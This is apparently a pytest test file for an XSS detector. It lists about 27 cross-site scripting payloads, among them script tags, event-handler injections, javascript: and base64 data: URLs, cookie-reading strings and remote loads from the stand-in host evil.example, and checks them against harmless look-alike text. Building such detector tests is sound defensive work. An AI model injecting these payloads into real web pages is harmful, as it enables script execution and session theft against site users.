import pytest

from doorward.controls.inspect.judges import xss
from doorward.controls.inspect.judges.html_lexer import tags

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>1</script>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<iframe srcdoc='<b>'>",
    "<iframe src=data:text/html,x>",
    "<object data=x></object>",
    "<form action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<div style='width: expression(alert(1))'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<math href=javascript:alert(1)>",
    "<img src=x onerror\x00=alert(1)//",
    '" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    "';alert(1)//",
    '"-alert(1)-"',
    "\\';alert(document.cookie);//",
    "</script><svg onload=alert(1)>",
    "${alert(document.cookie)}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
HARMLESS = [
    "a < b and c > d",
    "<3 you",
    "I love <b>bold</b> and <em>italic</em>",
    "<p>Hello</p><br/>",
    '<a href="https://example.com/?on=1">link</a>',
    '<img src="https://example.com/cat.png" alt="a cat">',
    "<ann@example.com>",
    "List<Map<String, Integer>> rows",
    "if (a < b) { return c > d; }",
    "JavaScript: The Good Parts (2nd edition)",
    "on time = on budget",
    'the "onclick" event',
    "alert (see page 5)",
    "it's an alert; a prompt, too",
    "const x = document;",
    "${amount} of {{ total }}",
    "data: the new oil",
    "expression (of joy)",
    "behaviour: good",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_a_browser_would_run_is_an_attack(text: str) -> None:
    verdict = xss.judge(text)
    assert verdict is not None
    assert verdict.threat == "xss"


@pytest.mark.parametrize("text", HARMLESS)
def test_markup_and_prose_that_cannot_run_is_not(text: str) -> None:
    assert xss.judge(text) is None


def test_a_tag_without_end_is_read_too() -> None:
    (tag,) = tags("<img src=x onerror=alert(1)")
    assert tag.attributes == (("src", "x"), ("onerror", "alert(1)"))
    assert not tag.is_closed


def test_a_quoted_attribute_may_hold_a_greater_than_sign() -> None:
    (tag,) = tags("<a title='>' href=x>")
    assert tag.attributes == (("title", ">"), ("href", "x"))
